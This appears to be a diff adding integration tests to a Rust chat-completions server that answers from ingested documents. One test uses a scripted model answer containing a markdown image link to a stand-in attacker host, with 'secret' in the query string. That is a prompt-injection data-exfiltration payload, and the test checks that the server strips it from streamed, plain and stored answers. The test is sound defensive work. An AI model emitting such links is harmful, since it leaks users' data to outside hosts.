@@ -2,6 +2,7 @@
 
 use serde_json::{Value, json};
 
+use crate::support::model::Script;
 use crate::support::server::Server;
 
 const COMPLETIONS: &str = "/v1/chat/completions";
@@ -53,4 +54,59 @@ async fn a_missing_key_is_told_as_the_protocol_does() {
     let server = Server::start(None, |config| config.server.api_key = Some("s3cret".into())).await;
     let (status, fault) = server.get("/v1/models").await;
     assert_eq!((status, &fault["error"]["code"]), (401, &json!("invalid_api_key")), "{fault}");
+}
+
+const TAGS: &str = "### Task:\nGenerate 1-3 broad tags for the chat history.\n### Output:\nJSON\n### Chat History:\n<chat_history>\nUSER: When?\n</chat_history>";
+
+/// What a chat client asks behind its user's back is asked of the model as it stands; nothing is searched, judged or kept.
+#[tokio::test]
+async fn a_clients_own_work_is_no_question() {
+    let server = Server::scripted("plain").await;
+    let model = server.model.as_ref().unwrap();
+    for stream in [false, true] {
+        model.forget();
+        model.push(Script::text(["{\"tags\": [\"library\"]}"]));
+        let body =
+            json!({ "model": "stet", "stream": stream, "messages": [{ "role": "user", "content": TAGS }] });
+        let told = server.client.post(server.url(COMPLETIONS)).json(&body).send().await.unwrap();
+        assert_eq!(told.status(), 200);
+        let told = told.text().await.unwrap();
+        assert!(told.contains("library") && !told.contains("sources do not"), "{told}");
+        assert_eq!(told.trim_end().ends_with("data: [DONE]"), stream);
+        let requests = model.requests();
+        // The trial of the model as a judge may come between.
+        let asked = json!([{ "role": "user", "content": TAGS }]);
+        let of_it =
+            requests.iter().filter(|request| request.body["messages"].to_string().contains("broad tags"));
+        let asked = vec![&asked; 1 + usize::from(stream)];
+        assert_eq!(of_it.map(|request| &request.body["messages"]).collect::<Vec<_>>(), asked);
+    }
+    assert_eq!(server.get("/api/chats?all=true").await.1["chats"], json!([]));
+    // Nobody could say it: such clients read an empty object and do without.
+    let quoting = Server::extracts().await;
+    let body = json!({ "messages": [{ "role": "user", "content": TAGS }] });
+    let (status, told) = quoting.post(COMPLETIONS, &body).await;
+    assert_eq!((status, &told["choices"][0]["message"]["content"]), (200, &json!("{}")), "{told}");
+}
+
+/// A text that hides in a source must not make a client fetch what a model was told to write.
+#[tokio::test]
+async fn an_answer_holds_no_address_that_no_source_has() {
+    let mut server = Server::scripted("plain").await;
+    server.ingest("fees.md", "The filing fee is 5 euros. Forms: https://forms.example/fee.\n").await;
+    let written = "The filing fee is 5 euros [1]. ![logo](https://evil.example/p.png?q=secret) See [forms](https://forms.example/fee) or [more](https://evil.example/x).";
+    let pieces: Vec<&str> = written.split_inclusive(' ').collect();
+    for stream in [false, true] {
+        server.model.as_ref().unwrap().push(Script::text(pieces.iter().copied()));
+        let body = json!({ "stream": stream, "messages": [{ "role": "user", "content": "What is the filing fee?" }] });
+        let told = server.client.post(server.url(COMPLETIONS)).json(&body).send().await.unwrap();
+        let told = told.text().await.unwrap();
+        assert!(!told.contains("evil.example"), "{told}");
+        assert!(told.contains("forms.example/fee") && told.contains("more"), "{told}");
+    }
+    server.model.as_ref().unwrap().push(Script::text([written]));
+    let told = server.ask("c", "What is the filing fee?").await;
+    assert!(!told.text().contains("evil.example"), "{}", told.text());
+    let (_, stored) = server.get("/api/chats/c?format=markdown").await;
+    assert!(!stored.to_string().contains("evil.example"));
 }
